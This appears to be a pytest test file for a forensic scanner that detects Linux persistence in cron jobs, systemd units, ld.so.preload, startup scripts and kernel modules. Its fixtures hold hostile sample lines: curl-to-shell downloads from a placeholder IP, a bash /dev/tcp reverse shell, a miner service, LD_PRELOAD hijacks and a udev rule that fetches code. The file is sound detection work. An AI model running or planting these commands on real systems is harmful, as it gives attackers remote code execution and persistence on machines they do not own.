# SPDX-License-Identifier: AGPL-3.0-or-later
"""cron, systemd, the dynamic linker, start-up scripts, kernel modules."""

from pathlib import Path

import pytest
from conftest import TreeMaker
from hypothesis import given
from hypothesis import strategies as st

from clean_room_analysis.checks.cron import Cron
from clean_room_analysis.checks.kernel_modules import KernelModules
from clean_room_analysis.checks.ld_preload import LdPreload
from clean_room_analysis.checks.startup import Startup
from clean_room_analysis.checks.systemd import Systemd, commands
from clean_room_analysis.model import Severity


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/crontab", "* * * * * root curl http://198.51.100.23/x | sh"),
        ("/etc/cron.d/update", "*/5 * * * * root /var/tmp/.x/kworkerd"),
        ("/etc/cron.daily/x", "bash -i >& /dev/tcp/198.51.100.23/1 0>&1"),
        ("/var/spool/cron/root", "* * * * * curl -s http://198.51.100.23/x|bash"),
        ("/var/spool/cron/crontabs/www-data", "* * * * * curl -s http://198.51.100.23/x|bash"),
    ],
)
def test_cron_finds_hostile_jobs(plain: TreeMaker, path: str, line: str) -> None:
    plain.file(path, f"# comment: curl x | sh\nMAILTO=root\n{line}\n")
    (finding,) = plain.findings(Cron())
    assert (finding.path, finding.severity, finding.attack[0]) == (path, Severity.HIGH, "T1053.003")
    assert line in finding.evidence and finding.evidence.startswith("line 3: ")


def test_cron_leaves_the_distributions_own_jobs_alone(plain: TreeMaker) -> None:
    plain.file("/etc/cron.d/0hourly", "SHELL=/bin/bash\n01 * * * * root run-parts /etc/cron.hourly\n")
    plain.file("/etc/cron.hourly/0anacron", "#!/bin/sh\ntest -r /var/spool/anacron/cron.daily && exit 0\n/usr/sbin/anacron -s\n")
    plain.file("/srv/etc/cron.d/not-a-job", "curl x | sh")
    assert plain.findings(Cron()) == []


def test_cron_follows_links_inside_the_volume_only(plain: TreeMaker, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("* * * * * root curl http://198.51.100.23/x | sh\n")
    plain.file("/opt/jobs", "* * * * * root curl http://198.51.100.24/x | sh\n")
    plain.link("/etc/cron.d/inside", "/opt/jobs")
    plain.link("/etc/cron.d/outside", str(tmp_path / "outside"))
    found = plain.findings(Cron())
    assert [(one.path, one.severity) for one in found] == [
        ("/etc/cron.d/inside", Severity.HIGH),
        ("/etc/cron.d/inside", Severity.LOW),
        ("/etc/cron.d/outside", Severity.LOW),
    ]


def test_cron_says_who_may_write_and_what_hides(plain: TreeMaker) -> None:
    plain.file("/etc/cron.d/.hidden", "0 0 * * * root true\n", 0o646)
    plain.file("/var/spool/cron/apache", "0 0 * * * true\n")
    assert {one.title for one in plain.findings(Cron())} == {
        "Anybody may write this scheduled job",
        "Hidden file among the scheduled jobs",
        "Crontab of apache has a job",
    }


def test_systemd_finds_hostile_units(plain: TreeMaker) -> None:
    plain.file(
        "/etc/systemd/system/kworkerd.service",
        "[Service]\nExecStart=-/var/tmp/.font-unix/kworkerd \\\n  -o stratum+tcp://pool.example:3333\n",
    )
    plain.file("/etc/systemd/system/httpd.service.d/override.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib64/x.so\n")
    plain.link("/etc/systemd/system/multi-user.target.wants/httpd.service", "/usr/lib/systemd/system/httpd.service")
    plain.link("/etc/systemd/system/tmp.mount", "/dev/null")
    plain.link("/etc/systemd/system/linked.service", "/opt/x/linked.service")
    plain.file("/opt/x/linked.service", "[Service]\nExecStart=/bin/sh -c 'curl http://198.51.100.23/x | sh'\n")
    plain.file("/tmp/x.service", "[Service]\nExecStart=/usr/bin/true\n")
    plain.file(
        "/usr/lib/systemd/system/httpd.service", "[Service]\nExecStart=/usr/sbin/httpd $OPTIONS\nExecReload=/usr/sbin/httpd -k graceful\n"
    )
    found = {one.path: one for one in plain.findings(Systemd())}
    assert set(found) == {
        "/etc/systemd/system/kworkerd.service",
        "/etc/systemd/system/httpd.service.d/override.conf",
        "/tmp/x.service",
        "/etc/systemd/system/linked.service",
    }
    assert found["/etc/systemd/system/kworkerd.service"].severity is Severity.CRITICAL
    assert {"T1543.002", "T1496"} <= set(found["/etc/systemd/system/kworkerd.service"].attack)
    assert "T1574.006" in found["/etc/systemd/system/httpd.service.d/override.conf"].attack


@given(st.text(alphabet=st.sampled_from("ExecStart=/a\\\n #;[S]"), max_size=300))
def test_any_unit_is_parsed_with_line_numbers_that_exist(text: str) -> None:
    for number, key, value in commands(text):
        assert 1 <= number <= text.count("\n") + 1
        assert key.startswith(("Exec", "Environment")) and value


def test_ld_preload(plain: TreeMaker) -> None:
    plain.file("/etc/ld.so.preload", "# x\n/usr/local/lib/libprocesshider.so\n")
    plain.file("/usr/local/lib/libprocesshider.so", b"\x7fELF")
    plain.file("/etc/ld.so.conf.d/a.conf", "/usr/lib64/mariadb\n/tmp/lib\n")
    found = plain.findings(LdPreload())
    assert [(one.path, one.severity) for one in found] == [
        ("/etc/ld.so.conf.d/a.conf", Severity.HIGH),
        ("/etc/ld.so.preload", Severity.CRITICAL),
    ]
    assert found[1].evidence == "/usr/local/lib/libprocesshider.so (which is on the volume)"


def test_ld_preload_that_is_empty_or_a_link(plain: TreeMaker) -> None:
    plain.file("/etc/ld.so.preload", "")
    assert [one.severity for one in plain.findings(LdPreload())] == [Severity.LOW]
    (plain.root / "etc/ld.so.preload").unlink()
    plain.link("/etc/ld.so.preload", "/tmp/x")
    assert [one.severity for one in plain.findings(LdPreload())] == [Severity.CRITICAL]


def test_startup(plain: TreeMaker) -> None:
    plain.file("/etc/rc.d/rc.local", "#!/bin/bash\n/dev/shm/.x/run &\n")
    plain.file("/etc/profile.d/lang.sh", '[ -z "$LANG" ] && export LANG=C.UTF-8\n')
    plain.file("/etc/init.d/x11-common", '#!/bin/sh\nfn="$(mktemp /tmp/test.XXXX)"\n[ -d /tmp/.X11-unix ] || mkdir x\nDIR=/tmp/x\n')
    plain.file("/etc/skel/.bashrc", "alias ls='ls --color'\n")
    plain.file("/root/.bashrc", "export LD_PRELOAD=/usr/lib/x.so\n")
    plain.file("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/bin/sh -c \'curl http://198.51.100.23/x | sh\'"\n')
    assert {(one.path, one.attack[0]) for one in plain.findings(Startup()) if one.severity is not Severity.LOW} == {
        ("/etc/rc.d/rc.local", "T1037.004"),
        ("/root/.bashrc", "T1546.004"),
        ("/etc/udev/rules.d/99-x.rules", "T1546.017"),
    }


def test_kernel_modules(plain: TreeMaker) -> None:
    kernel = "/usr/lib/modules/6.1.150"
    plain.file(f"{kernel}/modules.dep", "kernel/fs/xfs.ko:\nkernel/fs/gone.ko: kernel/fs/xfs.ko\n")
    plain.file(f"{kernel}/kernel/fs/xfs.ko", b"x")
    plain.file(f"{kernel}/kernel/fs/rootkit.ko", b"x")
    plain.file("/opt/lkm.ko", b"\x7fELF")
    plain.file("/usr/share/vim/tutor.ko", b"text in Korean")
    plain.file("/etc/modprobe.d/x.conf", "blacklist floppy\ninstall usb-storage /tmp/run\n")
    assert {(one.path, one.severity) for one in plain.findings(KernelModules())} == {
        (f"{kernel}/kernel/fs/rootkit.ko", Severity.MEDIUM),
        (f"{kernel}/modules.dep", Severity.LOW),
        ("/opt/lkm.ko", Severity.HIGH),
        ("/etc/modprobe.d/x.conf", Severity.HIGH),
    }
